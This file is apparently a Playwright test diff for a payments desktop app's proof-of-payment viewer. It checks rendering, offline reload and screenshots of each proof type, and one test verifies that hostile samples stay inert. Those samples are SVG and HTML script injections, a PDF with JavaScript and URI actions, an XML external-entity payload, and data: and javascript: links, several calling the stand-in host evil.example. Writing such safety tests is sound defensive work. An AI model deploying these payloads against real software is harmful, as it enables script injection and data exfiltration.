@@ -1,0 +1,226 @@
+/**
+ * @file Proofs of payment through the window: each kind as what it is, also after a restart without a service; samples
+ * that try to run or load something; pictures of all of it.
+ */
+import { readFile } from 'node:fs/promises';
+import { join } from 'node:path';
+import type { Page } from '@playwright/test';
+import { keyringMissing } from '../fakes/keyring.ts';
+import { type Company, closeCompany, openCompany, signIn } from './company.ts';
+import { expect, type Paydesk, test } from './fixture.ts';
+import { photograph } from './photograph.ts';
+
+test.setTimeout(300_000);
+
+/** What is seen of each kind, besides its name. */
+const seen: Readonly<Record<string, (page: Page) => Promise<void>>> = {
+  pdf: (page) => expect(page.getByRole('region', { name: 'Page 1' })).toContainText('PROOF OF PAYMENT'),
+  png: async (page) => {
+    const image = page.getByRole('img', { name: /^Image of the proof/ });
+    await expect(image).toBeVisible();
+    expect(await image.evaluate((one: HTMLImageElement) => one.naturalWidth)).toBeGreaterThan(0);
+  },
+  mt103: async (page) => {
+    await page.getByRole('button', { name: /^59 Beneficiary/ }).click();
+    await expect(page.getByRole('region', { name: 'Raw text' }).locator('li.on').first()).toContainText(
+      ':59:',
+    );
+    await expect(page.getByText(/as 32A says$/)).toBeVisible();
+  },
+  pacs008: (page) => expect(page.getByRole('region', { name: 'Key facts' })).toContainText('End-to-end ID'),
+  json: (page) => expect(page.getByRole('region', { name: 'Structure' }).first()).toContainText('creditor'),
+  text: (page) => expect(page.getByRole('region', { name: 'Raw text' })).toContainText('PROOF OF PAYMENT'),
+  url: (page) =>
+    expect(page.getByRole('button', { name: 'Open proofs.practice.example in browser…' })).toBeVisible(),
+};
+
+async function goToProofs(page: Page): Promise<void> {
+  await page.getByRole('navigation', { name: 'Main' }).getByText('Proofs').click();
+  await expect(page.getByRole('heading', { name: 'Proofs', level: 1 })).toBeVisible();
+}
+
+async function paste(page: Page, references: readonly string[]): Promise<void> {
+  await page.getByRole('button', { name: 'Paste references…' }).click();
+  await page.getByRole('textbox', { name: 'References' }).fill(references.join('\n'));
+  await page.getByRole('button', { name: /^Fetch [\d,]+ proofs?$/ }).click();
+  await expect(page.getByRole('dialog')).toBeHidden();
+  await expect(page.getByRole('progressbar', { name: 'Proofs fetched' })).toBeHidden({ timeout: 60_000 });
+}
+
+async function show(page: Page, reference: string): Promise<void> {
+  await page.getByRole('grid', { name: 'References' }).getByText(reference, { exact: true }).click();
+  await expect(page.getByRole('article', { name: `Proof ${reference}`, exact: true })).toBeVisible();
+}
+
+async function launched(
+  launch: (options: object) => Promise<Paydesk>,
+  company: Company,
+  more: object = {},
+): Promise<Paydesk> {
+  return launch({
+    profiles: company.profiles,
+    args: ['--allow-http-loopback'],
+    keyring: keyringMissing() === null,
+    ...more,
+  });
+}
+
+test('each kind is shown as what it is, saved, and shown again offline after a restart', async ({
+  launch,
+  dataFolder,
+}) => {
+  test.skip(keyringMissing() !== null, 'Without a keyring the library lasts for the session only');
+  const company = await openCompany();
+  const examples = company.simulator.exampleOfEachKind();
+  const first = await launched(launch, company);
+  const { apiKey } = company.simulator.credentials;
+  await first.call('session.signIn', { profileId: 'test-profile', apiKey, keep: 'keychain' });
+  await goToProofs(first.page);
+  await paste(first.page, [...Object.values(examples), 'PX2610150OO12']);
+  for (const [kind, reference] of Object.entries(examples)) {
+    await show(first.page, reference);
+    await seen[kind]?.(first.page);
+  }
+  await show(first.page, 'PX2610150OO12');
+  await expect(first.page.getByText('There is no proof under this reference')).toBeVisible();
+
+  await show(first.page, examples.mt103);
+  const file = join(dataFolder, '..', 'original.txt');
+  await first.answerDialogs({ save: file });
+  await first.page.getByRole('button', { name: 'More', exact: true }).click();
+  await first.page.getByRole('menuitem', { name: /^Save original/ }).click();
+  await expect(first.page.getByText('The proof is saved')).toBeVisible();
+  expect(await readFile(file, 'utf8')).toContain(`:20:${examples.mt103}\r\n`);
+  await first.quit();
+  await company.simulator.close();
+
+  const second = await launched(launch, company);
+  await goToProofs(second.page);
+  for (const [kind, reference] of Object.entries(examples)) {
+    await show(second.page, reference);
+    await seen[kind]?.(second.page);
+  }
+  await second.page.getByRole('searchbox', { name: 'Find in all proofs' }).fill('no money was moved');
+  await expect(second.page.getByRole('grid', { name: 'References' }).getByText(examples.pdf)).toBeVisible();
+  await expect(second.page.getByRole('grid', { name: 'References' }).getByText(examples.json)).toBeHidden();
+  await closeCompany(company);
+});
+
+const script = 'window.hacked = true; fetch("https://evil.example/beacon")';
+const scriptedPdf = [
+  '%PDF-1.7',
+  '1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>endobj',
+  '2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj',
+  '3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 200]/AA<</O<</S/URI/URI(https://evil.example/pdf)>>>>>>endobj',
+  'trailer<</Root 1 0 R>>',
+].join('\n');
+
+/** Each tries to run something or to reach a host, in its own way. */
+const hostile: Readonly<Record<string, { pop: unknown; type: string }>> = {
+  'svg-script': {
+    pop: `<svg xmlns="http://www.w3.org/2000/svg" width="80" height="40" onload="${script.replaceAll('"', "'")}"><script>${script}</script><image href="https://evil.example/a.png" width="9" height="9"/><foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="https://evil.example/b.png"/></body></foreignObject><style>@import "https://evil.example/c.css";</style></svg>`,
+    type: 'IMAGE',
+  },
+  'html-page': {
+    pop: `<!doctype html><html><head><meta http-equiv="refresh" content="0;url=https://evil.example/"></head><body onload="${script.replaceAll('"', "'")}"><script>${script}</script><img src="https://evil.example/d.png"><iframe src="https://evil.example/e"></iframe></body></html>`,
+    type: '<img src=x onerror=alert(1)>',
+  },
+  'pdf-script': { pop: Buffer.from(scriptedPdf).toString('base64'), type: 'PDF' },
+  'pdf-broken': { pop: Buffer.from('%PDF-1.7\n1 0 obj\n<<').toString('base64'), type: 'PDF' },
+  'xml-bomb': {
+    pop: '<!DOCTYPE a [<!ENTITY x SYSTEM "https://evil.example/x"><!ENTITY y "&x;&x;">]><a>&y;</a>',
+    type: 'ISO20022',
+  },
+  'json-page': { pop: { __proto__: null, html: `<script>${script}</script>` }, type: 'JSON' },
+  'data-page': { pop: `data:text/html,<script>${encodeURIComponent(script)}</script>`, type: 'X' },
+  'script-link': { pop: 'javascript:alert(1)', type: 'WIRE' },
+};
+
+test('samples that try to run or load something do neither', async ({ launch }) => {
+  const company = await openCompany();
+  company.simulator.faults.set(
+    'proof',
+    ...Object.entries(hostile).map(([reference, answer]) => ({
+      kind: 'status' as const,
+      status: 200,
+      headers: { 'content-type': 'application/json' },
+      body: JSON.stringify(answer),
+      when: ({ path }: { path: string }) => path.endsWith(`/${reference}`),
+    })),
+  );
+  const paydesk = await launched(launch, company);
+  await signIn(paydesk, company);
+  const { page } = paydesk;
+  const requests: string[] = [];
+  page.on('request', (request) => requests.push(request.url()));
+  let dialogs = 0;
+  page.on('dialog', (dialog) => {
+    dialogs += 1;
+    void dialog.dismiss();
+  });
+  await goToProofs(page);
+  const references = Object.keys(hostile);
+  await paste(page, references);
+  for (const reference of references) {
+    await show(page, reference);
+    await expect(page.getByRole('status', { name: 'Opening the proof' })).toBeHidden();
+    await photographQuietly(page);
+  }
+  expect(await page.evaluate(() => Reflect.get(window, 'hacked'))).toBeUndefined();
+  expect(dialogs).toBe(0);
+  expect(requests.filter((url) => url.includes('evil.example'))).toEqual([]);
+  expect(paydesk.blockedRequests()).toEqual([]);
+  // An image draws in a document of its own; nothing of the samples is part of the window's.
+  expect(await page.locator('svg[onload], iframe, meta[http-equiv="refresh"]').count()).toBe(0);
+  await show(page, 'html-page');
+  await expect(page.getByRole('region', { name: 'Raw text' })).toContainText('http-equiv="refresh"');
+  await closeCompany(company);
+});
+
+/** Two frames: what would run or load has begun by then. */
+async function photographQuietly(page: Page): Promise<void> {
+  await page.evaluate(async () => {
+    for (let count = 0; count < 2; count += 1) await new Promise((resolve) => requestAnimationFrame(resolve));
+  });
+}
+
+for (const { scale, axe } of [
+  { scale: 1, axe: true },
+  { scale: 1.5, axe: false },
+]) {
+  test(`pictures of every kind, ${scale * 100} %`, async ({ launch }) => {
+    const company = await openCompany();
+    const examples = company.simulator.exampleOfEachKind();
+    const paydesk = await launched(launch, company, { deviceScaleFactor: scale });
+    await signIn(paydesk, company);
+    const { page } = paydesk;
+    const shoot = (name: string) => photograph(paydesk, `proofs-${name}`, { axe });
+    await goToProofs(page);
+    await shoot('empty');
+    await page.getByRole('button', { name: 'Paste references…' }).click();
+    await page.getByRole('textbox', { name: 'References' }).fill('PX1\nPX2, PX2\n..');
+    await shoot('paste');
+    await page.keyboard.press('Escape');
+    await page.getByRole('button', { name: 'Paste references…' }).waitFor();
+    await paste(page, [
+      ...Object.values(examples),
+      'PX2610150OO12',
+      ...company.simulator.exampleReferences(24),
+    ]);
+    for (const [kind, reference] of Object.entries(examples)) {
+      await show(page, reference);
+      await seen[kind]?.(page);
+      await shoot(kind);
+    }
+    await show(page, 'PX2610150OO12');
+    await shoot('no-proof');
+    await page.getByRole('searchbox', { name: 'Find in all proofs' }).fill('zzz');
+    await expect(page.getByText('No proof contains “zzz”')).toBeVisible();
+    await shoot('nothing-found');
+    await page.getByRole('searchbox', { name: 'Find in all proofs' }).fill('');
+    await show(page, examples.mt103);
+    await paydesk.resize(960, 700);
+    await shoot('narrow');
+    await closeCompany(company);
+  });
+}
